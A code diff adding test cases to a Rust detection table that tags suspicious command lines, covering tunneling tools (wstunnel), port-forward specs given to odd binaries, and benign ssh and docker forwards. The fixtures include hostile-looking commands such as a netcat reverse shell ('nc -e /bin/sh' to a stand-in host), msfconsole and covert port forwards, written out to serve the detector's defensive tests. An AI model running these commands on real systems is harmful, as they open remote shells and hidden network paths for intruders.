@@ -251,6 +251,43 @@ fn exec_table() -> Vec<Case> {
         ),
         user(vec!["msfconsole", "-q"], vec!["tool-c2-framework"]),
         user(
+            vec![
+                "wstunnel",
+                "client",
+                "-L",
+                "tcp://8080:localhost:22",
+                "wss://h",
+            ],
+            vec!["tool-tunnel"],
+        ),
+        // Elastic's "Potential Linux Tunneling and/or Port Forwarding": an address-to-address
+        // forward given to anything but ssh.
+        user(
+            vec![
+                "/tmp/x/agent",
+                "client",
+                "h:8080",
+                "R:127.0.0.1:3389:10.0.0.5:3389",
+            ],
+            vec!["tool-port-forward-spec", TMP],
+        ),
+        user(
+            vec!["svc", "-N", "-L", "0.0.0.0:8080:10.0.0.5:80", "u@h"],
+            vec!["tool-port-forward-spec"],
+        ),
+        user(
+            vec!["ssh", "-N", "-L", "127.0.0.1:9000:10.0.0.5:22", "u@h"],
+            vec![],
+        ),
+        user(
+            vec!["docker", "run", "-p", "127.0.0.1:8080:80", "nginx"],
+            vec![],
+        ),
+        user(
+            vec!["sh", "-c", "ssh -L 127.0.0.1:9000:10.0.0.5:22 u@h"],
+            vec![],
+        ),
+        user(
             vec!["nc", "-e", "/bin/sh", "h", "4444"],
             vec!["tool-netcat-exec"],
         ),
